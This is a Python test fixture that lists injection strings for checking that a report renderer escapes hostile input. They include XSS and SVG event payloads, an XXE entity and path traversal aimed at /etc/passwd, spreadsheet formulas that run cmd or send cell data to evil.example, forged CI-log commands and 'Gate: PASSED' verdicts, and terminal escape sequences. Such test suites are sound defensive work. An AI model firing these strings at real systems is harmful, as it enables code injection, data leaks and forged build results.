"""Strings that attack whatever shows them, each by what it attacks. Knows no format and no report."""

from __future__ import annotations

import json
from functools import cache

import pytest

from tests.conftest import ROOT

#: Strings known to break programs: https://github.com/minimaxir/big-list-of-naughty-strings.
NAUGHTY_FILE = ROOT.parent / "shared" / "realdata" / "strings" / "blns.json"
needs_naughty = pytest.mark.skipif(
    not NAUGHTY_FILE.is_file(), reason="the big list of naughty strings lies outside the repository"
)

#: Markdown as GitHub and GitLab read it.
MARKDOWN = {
    "cell that passes": "Security review | ✅ PASS",
    "cells that push": "a | b | c | d | e | f | g | h | i | j",
    "escaped pipe": "a \\| b",
    "double backslash and pipe": "a \\\\| b",
    "backslash at the end": "a\\",
    "newline": "a\nb",
    "blank line and heading": "a\n\n# Gate: PASSED",
    "newline and row": "a |\n| b | c |",
    "newline and table": "a\n\n| verdict |\n|---|\n| go |",
    "heading": "## Gate: PASSED",
    "closed heading": "## Gate: PASSED ##",
    "empty heading": "#",
    "setext heading": "a\n===",
    "setext underline alone": "===",
    "rule": "---",
    "rule of stars": "* * *",
    "bullet": "- a",
    "bullet of plus": "+ a",
    "bullet of star": "* a",
    "number": "1. a",
    "number with parenthesis": "7) a",
    "task": "- [x] a",
    "task without bullet": "[x] a",
    "quote": "> a",
    "alert": "> [!NOTE]\n> a",
    "indented code": "    a",
    "tab": "\ta",
    "fence": "```\na\n```",
    "fence of tildes": "~~~\na\n~~~",
    "code": "`a`",
    "open code": "a ` b",
    "double backticks": "``a`b``",
    "image": "![a](https://beacon.example/a.png)",
    "link": "[a](https://evil.example)",
    "reference": "[a][b]",
    "definition": "[b]: https://evil.example",
    "shortcut reference": "[b]",
    "autolink": "<https://evil.example>",
    "autolink of mail": "<a@evil.example>",
    "bare https": "https://evil.example/a_b",
    "bare http": "http://evil.example",
    "bare ftp": "ftp://evil.example",
    "bare www": "www.evil.example",
    "bare mail": "a@evil.example",
    "mail to a host with a hyphen first": "a@-evil.example",
    "mail to a host with a dot first": "a@.evil.example",
    "mailto": "mailto:a@evil.example",
    "xmpp": "xmpp:a@evil.example/b",
    "emphasis": "*a* _b_ **c** __d__",
    "strikethrough": "~~a~~ ~b~",
    "math": "$a$ $$b$$ $`c`$",
    "footnote": "a[^1]",
    "footnote text": "[^1]: a",
    "mention": "@octocat",
    "team": "@org/team",
    "mention in brackets": "(@octocat)",
    "issue": "#1",
    "issue elsewhere": "org/repo#1",
    "issue by letters": "GH-1",
    "merge request": "!1",
    "emoji": ":tada: :+1:",
    "highlight": "==a== ^b^",
    "directive": "::: warning",
    "front matter": "---\na: b\n---",
    "hard break": "a  \nb\\\nc",
}

#: HTML and XML.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "image in HTML": '<img src="https://beacon.example">',
    "attribute": '" onmouseover="alert(1)" x=\'',
    "attribute without quotes": "x onfocus=alert(1) autofocus",
    "closing details": "</details>",
    "closing details and heading": "</details>\n\n# Gate: PASSED",
    "closing title": "</title><script>alert(1)</script>",
    "closing style": "</style><script>alert(1)</script>",
    "closing script": "</script><script>alert(1)</script>",
    "closing cell": "</td></tr></table><h1>Gate: PASSED</h1>",
    "event in SVG": "<svg onload=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>">',
    "style": "<style>.bad{display:none}</style>",
    "style that asks a server": "x;background:url(https://beacon.example/a.png)",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "javascript": "javascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "comment": "<!--",
    "whole comment": "<!-- a -->",
    "end of a comment": "--><h1>Gate: PASSED</h1>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing": "<?php ?>",
    "CDATA": "<![CDATA[a]]>",
    "end of CDATA": "]]><failure/>",
    "document type": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "entity": "&amp; &lt;b&gt; &#124; &#x7c; &nbsp; &b;",
    "template": "{{ a }} {% b %} {# c #}",
    "template of ours": "{{ view.report }}{% include 'page.html.j2' %}",
    "template of another": "${7*7} #{7*7} <%= 7*7 %>",
}

#: What the logs of CI services obey.
LOGS = {
    "command": "::error::a",
    "command after spaces": "  ::error file=a,line=1::b",
    "command on the next line": "a\n::set-output name=b::c",
    "command after a return": "a\r::stop-commands::b",
    "command of six colons": "::::::error::a",
    "command that wraps": f"{'a ' * 40}::error::b",
    "older command": "##[error]a",
    "older command in the text": "a ###[add-mask]b",
    "Azure": "##vso[task.complete result=Succeeded]a",
    "TeamCity": "##teamcity[buildStatus status='SUCCESS']a",
    "escapes": "%0A::error::a%25%2525%3A%2C%0d",
    "properties": "a,line=99,title=b::c",
    "per cents": "100 %%0A% of 90%",
    "output of a step": "a\nverdict=go",
    "verdict": "a\nverdict: go",
    "line of ours": "a\nplan.yaml:1:1: info[a.b] met: c",
}

#: rich, which draws the screen.
SCREEN = {
    "colour": "[red]a[/red]",
    "link of a terminal": "[link=https://evil.example]a[/link]",
    "closing tag": "[/]",
    "open tag": "[bold",
    "action": "[@click=a]b[/]",
    "emoji of a terminal": "a :warning: b",
    "forged screen": "a\n\n ON COURSE    If GA were today: GO",
    "wide": "审查部门的负责人和他的副手",
    "flood of combining characters": "e" + "\u0301" * 200,
    "joined emoji": "👩‍👩‍👧‍👦 👍🏽 🇩🇪",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\u00adf",
    "right to left": "אבג abc אבג",
    "no end": "x" * 10_000,
    "no end of words": "word " * 2000,
}

#: Spreadsheets, calendars and SARIF.
FILES = {
    "formula": "=1+1",
    "formula that runs": "=cmd|'/C calc'!A0",
    "formula that asks a server": '=HYPERLINK("https://evil.example?x="&A1,"done")',
    "formula of plus": "+1+1",
    "formula of minus": "-1+1",
    "formula of at": "@SUM(1)",
    "formula in quotes": '"=1+1"',
    "formula behind an apostrophe": "'=1+1",
    "formula of wide letters": "＝1+1",
    "end of a cell": 'a","b\r\n=1+1,"',
    "other separators": "a;b\tc|d",
    "escape of a workbook": "_x0041_ _x000D_",
    "event": "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b",
    "property of an event": "a;X=1:b\\nc\\,d",
    "placeholder": "{0} {{0}} }{ {",
    "link in a message": "a](https://evil.example) [b](1) \\[c\\](2)",
    "path upward": "../../../etc/passwd",
    "path of another system": "..\\..\\a C:\\b file:///c",
    "address in per cents": "%2e%2e%2f%00",
    "quotes": "\"'`´“”",
    "number": "1e999",
    "nothing": "null",
    "not a number": "NaN",
}

#: Nobody sees these, and a terminal, a reader or a spreadsheet may obey them: no file with one of them is read.
UNSEEN = {
    "bidirectional": "a\u202eb",
    "isolate": "a\u2066b\u200f",
    "mark of direction": "a\u061cb\u200e",
    "escape sequence": "a\x1b[31mb",
    "title of the window": "a\x1b]0;b\x07",
    "clipboard": "a\x1b]52;c;YQ==\x07b",
    "link of the terminal": "\x1b]8;;https://evil.example\x1b\\a\x1b]8;;\x1b\\",
    "C1": "a\x9b2Jb\x90c",
    "next line": "a\x85b",
    "line separator": "a\u2028b\u2029c",
    "null": "a\x00b",
    "bell and backspace": "a\x07b\x08c",
    "delete": "a\x7fb",
    "separators of files": "a\x1cb\x1dc\x1ed\x1fe",
    "feeds": "a\x0bb\x0cc",
    "byte-order mark": "\ufeffa",
    "notes between lines": "a\ufff9b\ufffac\ufffb",
    "no character": "a\ufffeb\uffffc",
    "tags": "a\U000e0041\U000e0042\U000e007fb",
    "lone surrogate": "a\ud800b\udfffc",
}

SEEN = {**MARKDOWN, **MARKUP, **LOGS, **SCREEN, **{f"file: {name}": text for name, text in FILES.items()}}
STRINGS = {**SEEN, **UNSEEN}


@cache
def naughty() -> tuple[str, ...]:
    """Return the strings of the public list that say something."""
    found: list[str] = json.loads(NAUGHTY_FILE.read_text(encoding="utf-8"))
    return tuple(text for text in found if text.strip())
